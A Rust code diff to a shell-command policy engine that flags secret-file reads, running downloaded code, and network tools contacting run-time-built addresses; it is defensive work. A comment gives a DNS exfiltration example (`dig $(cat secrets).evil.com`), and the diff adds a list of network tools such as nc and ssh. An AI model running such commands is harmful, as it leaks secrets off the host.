@@ -8,6 +8,12 @@ use crate::policy::paths;
 use crate::policy::rules;
 use crate::policy::verdict::Verdict;
 
+/// Programs that send their arguments (host names, queries) over the network.
+const NETWORK_PROGRAMS: &[&str] = &[
+    "dig", "drill", "nslookup", "host", "whois", "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr",
+    "nc", "ncat", "netcat", "telnet", "ssh", "scp", "sftp", "rsync", "ftp", "git",
+];
+
 impl Engine<'_> {
     /// Checks every program gets whatever its rule says: secrets read or printed, downloaded code.
     pub(super) fn argument_checks(&self, inv: &Invocation) -> Verdict {
@@ -15,7 +21,13 @@ impl Engine<'_> {
         if !NOT_READERS.contains(&inv.name) {
             for word in inv.args {
                 let text = word.text.as_str();
-                let candidates = [Some(text), text.split_once('=').map(|(_, v)| v), text.strip_prefix('@')];
+                // `--key=~/.ssh/id_rsa`, `@.env` (curl), `HEAD:.env` (git show).
+                let candidates = [
+                    Some(text),
+                    text.split_once('=').map(|(_, v)| v),
+                    text.strip_prefix('@'),
+                    text.split_once(':').map(|(_, v)| v),
+                ];
                 if let Some(path) = candidates.into_iter().flatten().find(|c| !c.is_empty() && paths::secret(c)) {
                     verdict = verdict.max(Verdict::high(format!(
                         "reads a secret ({path}); its contents would be sent to the model provider"
@@ -41,21 +53,33 @@ impl Engine<'_> {
         if rules::runs_code(inv.name) && inv.args.iter().any(|w| word_downloads(w, &self.downloaded_vars)) {
             verdict = verdict.max(Verdict::high("runs code downloaded from the network"));
         }
+        if let Some(file) = inv.args.iter().find(|w| self.downloaded_files.contains(w.text.trim_start_matches("./")))
+            && (rules::runs_code(inv.name) || inv.name == "chmod")
+        {
+            let what = if inv.name == "chmod" { "makes executable" } else { "runs" };
+            verdict = verdict.max(Verdict::high(format!("{what} {}, which was just downloaded", file.text)));
+        }
+        // `dig $(cat secrets).evil.com`: a network address built at run time can carry data out.
+        let network = NETWORK_PROGRAMS.contains(&inv.name);
+        if let Some(word) = inv.args.iter().find(|w| w.dynamic && (network || w.text.contains("://"))) {
+            verdict = verdict.max(Verdict::medium(format!(
+                "contacts an address built at run time ({}), which can carry data off the host",
+                word.text
+            )));
+        }
         verdict
     }
 
-    pub(super) fn redirect(&mut self, redirect: &Redirect, subject: &str, metadata_reader: bool) {
+    pub(super) fn redirect(&mut self, redirect: &Redirect, subject: &str, metadata_reader: bool, nesting: usize) {
+        // Substitutions in a target or an unquoted here-document run before the command does.
+        for word in redirect.target.iter().chain(redirect.heredoc.iter()) {
+            for sub in &word.subs {
+                self.script(sub, nesting);
+            }
+        }
         let Some(target) = redirect.target.as_ref() else {
             return;
         };
-        for sub in &target.subs {
-            self.script(sub, 0);
-        }
-        if let Some(body) = &redirect.heredoc {
-            for sub in &body.subs {
-                self.script(sub, 0);
-            }
-        }
         let op = redirect.op.as_str();
         if op == "<<<" || op.starts_with("<<") {
             return;
